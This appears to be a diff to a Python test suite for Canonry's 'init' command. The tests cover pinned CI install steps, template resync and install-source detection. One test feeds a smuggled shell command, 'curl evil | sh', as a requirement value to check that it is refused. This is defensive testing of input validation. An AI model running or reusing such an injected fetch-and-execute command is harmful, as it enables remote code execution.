@@ -25,10 +25,17 @@ LIBRARIES = {
     "overrides",
     "scenario-patterns",
 }
+INSTALL_COMMENT = (
+    "      # Canonry is not on the Python package index yet: canonry init wrote the git URL\n"
+    "      # and commit of the Canonry that ran it. To upgrade, change this line in both workflows.\n"
+)
 RESYNC = (
     "rm tooling/canonry/templates/repo/schemas/* && "
-    "cp schemas/libraries.yaml schemas/*.schema.json tooling/canonry/templates/repo/schemas/ && "
-    "for f in gates release; do sed 's/run: pip install \\.$/run: pip install \"canonry>=0.1\"/' "
+    "cp schemas/libraries.yaml schemas/allowed_signers schemas/*.schema.json "
+    "tooling/canonry/templates/repo/schemas/ && "
+    "for f in gates release; do sed -e 's/^      - name: Install Canonry$/"
+    + INSTALL_COMMENT.replace("\n", "\\n")
+    + "&/' -e 's/run: pip install \\.$/run: pip install \"{{canonry_requirement}}\"/' "
     ".github/workflows/$f.yml > tooling/canonry/templates/repo/dot_github/workflows/$f.yml; done"
 )
 
@@ -58,7 +65,8 @@ def test_init_creates_a_repository_that_validates(tmp_path: Path) -> None:
     assert git(target, "rev-list", "--count", "HEAD") == "1"
     assert tracked(target) == set(template_files("kb"))
     assert {p.split("/")[1] for p in tracked(target) if p.startswith("schemas/")} == (
-        {"libraries.yaml", "common.schema.json"} | {f"{name}.schema.json" for name in LIBRARIES}
+        {"libraries.yaml", "allowed_signers", "common.schema.json"}
+        | {f"{name}.schema.json" for name in LIBRARIES}
     )
     assert_clean(target)
     git(target, "fsck", "--strict", "--no-progress")
@@ -185,7 +193,7 @@ def test_init_refuses_existing_knowledge_content(tmp_path: Path) -> None:
     head = git(target, "rev-parse", "HEAD")
     again = run(["init", str(target)])
     assert again.exit_code == 2
-    assert "already has knowledge repository content (schemas/ holds 10 files" in again.stderr
+    assert "already has knowledge repository content (schemas/ holds 11 files" in again.stderr
     assert "will not overwrite" in again.stderr
     assert git(target, "rev-parse", "HEAD") == head
 
@@ -298,9 +306,94 @@ def test_shipped_schemas_equal_this_repositorys_schemas() -> None:
 def test_shipped_workflows_equal_this_repositorys_but_for_the_install(name: str) -> None:
     ours = (ROOT / ".github" / "workflows" / name).read_text()
     shipped = (TEMPLATES / "dot_github" / "workflows" / name).read_text()
-    assert "run: pip install .\n" in ours
-    expected = ours.replace("run: pip install .\n", 'run: pip install "canonry>=0.1"\n')
+    step = "      - name: Install Canonry\n        run: pip install .\n"
+    assert step in ours
+    expected = ours.replace(
+        step, INSTALL_COMMENT + step.replace("pip install .", 'pip install "{{canonry_requirement}}"')
+    )
     assert shipped == expected, f"{name} drifted; resync from the checkout's root: {RESYNC}"
+
+
+def test_the_resync_command_reproduces_the_shipped_workflows(tmp_path: Path) -> None:
+    # the command the drift messages give really does the job
+    loop = RESYNC.split("for f in gates release; do ", 1)[1].removesuffix("; done")
+    for name in ("gates", "release"):
+        command = loop.replace("$f", name).replace("tooling/canonry/templates/repo", str(tmp_path))
+        (tmp_path / "dot_github" / "workflows").mkdir(parents=True, exist_ok=True)
+        subprocess.run(["bash", "-c", command], cwd=ROOT, check=True)
+        shipped = (TEMPLATES / "dot_github" / "workflows" / f"{name}.yml").read_bytes()
+        assert (tmp_path / "dot_github" / "workflows" / f"{name}.yml").read_bytes() == shipped
+
+
+# --- what the workflows install ------------------------------------------------------
+
+
+def install_step(repo: Path) -> str:
+    text = (repo / ".github/workflows/gates.yml").read_text()
+    return text.split("- name: Install Canonry\n", 1)[1].split("\n\n", 1)[0]
+
+
+def test_init_pins_the_canonry_it_is_given(tmp_path: Path) -> None:
+    pinned = "canonry @ git+https://git.example.org/tools/canonry@" + "a" * 40
+    result = run(["init", str(tmp_path / "kb"), "--canonry-from", pinned])
+    assert result.exit_code == 0, result.stderr
+    assert f'The workflows install Canonry with: pip install "{pinned}"' in result.stderr
+    for name in ("gates.yml", "release.yml"):
+        assert f'run: pip install "{pinned}"\n' in (tmp_path / "kb/.github/workflows" / name).read_text()
+    assert f'pip install "{pinned}"' in (tmp_path / "kb/README.md").read_text()
+    # a bare URL becomes a requirement; quotes or shell characters are refused
+    assert run(["init", str(tmp_path / "kb2"), "--canonry-from", "git+https://h/canonry@v1"]).exit_code == 0
+    assert 'pip install "canonry @ git+https://h/canonry@v1"' in install_step(tmp_path / "kb2")
+    bad = run(["init", str(tmp_path / "kb3"), "--canonry-from", 'canonry" && curl evil | sh "'])
+    assert bad.exit_code == 2
+    assert "give a pip requirement" in bad.stderr
+    assert not (tmp_path / "kb3").exists()
+
+
+def test_init_says_when_it_cannot_tell_where_canonry_came_from(tmp_path: Path) -> None:
+    from canonry.store.init import init_knowledge_repo
+    from canonry.store.install_source import CanonrySource
+
+    unknown = CanonrySource(None, "Canonry was installed from a file (file:///tmp/canonry.whl)")
+    result = init_knowledge_repo(tmp_path / "kb", source=unknown)
+    step = install_step(result.path)
+    assert "exit 1" in step and "::error::Canonry is not on the Python package index yet" in step
+    assert "{{canonry" not in (result.path / ".github/workflows/release.yml").read_text()
+    assert "{{canonry" not in (result.path / "README.md").read_text()
+
+
+def test_where_canonry_came_from() -> None:
+    from canonry.store.install_source import source_from_direct_url
+
+    commit = "0123456789abcdef0123456789abcdef01234567"
+    vcs = (
+        '{"url": "https://git.example.org/tools/canonry.git", "vcs_info": {"vcs": "git", "commit_id": "%s"}}'
+    )
+    assert source_from_direct_url(vcs % commit).requirement == (
+        f"canonry @ git+https://git.example.org/tools/canonry.git@{commit}"
+    )
+    assert source_from_direct_url(None).requirement == "canonry==0.1.0"  # from an index
+    local_vcs = '{"url": "file:///srv/canonry", "vcs_info": {"vcs": "git", "commit_id": "%s"}}'
+    assert source_from_direct_url(local_vcs % commit).requirement is None
+    assert source_from_direct_url('{"url": "file:///tmp/c.whl", "archive_info": {}}').requirement is None
+    assert source_from_direct_url("not json").requirement is None
+
+
+def test_a_clone_with_a_pushed_head_gives_its_origin_and_commit(tmp_path: Path) -> None:
+    from canonry.store.install_source import source_from_direct_url
+
+    clone = copy_reference(tmp_path / "canonry", with_knowledge=False)
+    head = git(clone, "rev-parse", "HEAD")
+    raw = json.dumps({"url": f"file://{clone}", "dir_info": {"editable": True}})
+    assert "clone without an origin" in source_from_direct_url(raw).how
+    git(clone, "remote", "add", "origin", "git@git.example.org:tools/canonry.git")
+    assert source_from_direct_url(raw).requirement is None  # HEAD is on no branch of origin
+    git(clone, "update-ref", "refs/remotes/origin/main", head)
+    assert source_from_direct_url(raw).requirement == (
+        f"canonry @ git+ssh://git@git.example.org/tools/canonry.git@{head}"
+    )
+    git(clone, "remote", "set-url", "origin", str(tmp_path / "elsewhere"))
+    assert "not a network address" in source_from_direct_url(raw).how
 
 
 def test_template_names_survive_packaging() -> None:
